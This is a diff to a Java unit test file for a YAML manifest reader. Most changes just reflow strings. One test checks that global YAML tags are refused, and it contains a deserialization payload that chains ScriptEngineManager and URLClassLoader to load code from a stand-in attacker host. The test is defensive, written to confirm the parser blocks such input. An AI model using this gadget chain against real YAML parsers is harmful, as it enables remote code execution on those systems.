@@ -62,8 +62,10 @@ class ManifestReaderTest {
 
     @Test
     void defaults_whenFieldsAreLeftOut() {
-        ReplicaSet rs = (ReplicaSet) reader.read("kind: ReplicaSet\nmetadata: {name: r}\nspec: {template: {spec: {worker: echo}}}\n").getFirst();
-        Service svc = (Service) reader.read("kind: Service\nmetadata: {name: s}\nspec: {selector: {app: x}}\n").getFirst();
+        ReplicaSet rs = (ReplicaSet) reader.read(
+                "kind: ReplicaSet\nmetadata: {name: r}\nspec: {template: {spec: {worker: echo}}}\n").getFirst();
+        Service svc = (Service) reader.read(
+                "kind: Service\nmetadata: {name: s}\nspec: {selector: {app: x}}\n").getFirst();
 
         assertEquals(1, rs.spec().replicas());
         assertEquals(RestartPolicy.ALWAYS, rs.spec().template().spec().restartPolicy());
@@ -163,11 +165,13 @@ class ManifestReaderTest {
     @Test
     void globalTags_areRefused_andNothingIsConstructed() {
         int before = Tripwire.BUILT.get();
+        String container = "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, params: {x: %s}}\n";
         for (String yaml : List.of(
-                "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, params: {x: !!io.k4s.core.manifest.Tripwire []}}\n",
+                container.formatted("!!io.k4s.core.manifest.Tripwire []"),
                 "!!io.k4s.core.manifest.Tripwire\nkind: Container\n",
-                "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, params: {x: !<tag:yaml.org,2002:io.k4s.core.manifest.Tripwire> {}}}\n",
-                "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, params: {x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]}}\n")) {
+                container.formatted("!<tag:yaml.org,2002:io.k4s.core.manifest.Tripwire> {}"),
+                container.formatted("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
+                        + " [[!!java.net.URL [\"http://attacker.example/\"]]]]"))) {
             ManifestException e = assertThrows(ManifestException.class, () -> reader.read(yaml));
             assertTrue(e.getMessage().contains("tags are not allowed"), e.getMessage());
         }
@@ -184,7 +188,8 @@ class ManifestReaderTest {
 
     @Test
     void aDocumentOverThreeMegabytes_isRefused() {
-        StringBuilder yaml = new StringBuilder("kind: Container\nmetadata: {name: big}\nspec:\n  worker: echo\n  params:\n");
+        StringBuilder yaml = new StringBuilder(
+                "kind: Container\nmetadata: {name: big}\nspec:\n  worker: echo\n  params:\n");
         for (int i = 0; yaml.length() <= YamlDocuments.MAX_CODE_POINTS; i++) {
             yaml.append("    key").append(i).append(": some value ").append(i).append('\n');
         }
@@ -248,10 +253,12 @@ class ManifestReaderTest {
 
     @Test
     void duplicateKeys_inParams_areErrorsToo() {
-        ManifestException e = assertThrows(ManifestException.class,
-                () -> reader.read("kind: Container\nmetadata: {name: c}\nspec: {worker: echo, params: {a: 1, a: 2}}\n"));
+        String yaml = "kind: Container\nmetadata: {name: c}\nspec: {worker: echo, params: {a: 1, a: 2}}\n";
 
-        assertEquals(List.of("<string>:3:37: Container \"c\": spec.params.a: duplicate key \"a\" (first at line 3, column 31)"),
+        ManifestException e = assertThrows(ManifestException.class, () -> reader.read(yaml));
+
+        assertEquals(List.of("<string>:3:37: Container \"c\": spec.params.a: duplicate key \"a\""
+                        + " (first at line 3, column 31)"),
                 Arrays.asList(e.getMessage().split("\n")));
     }
 }
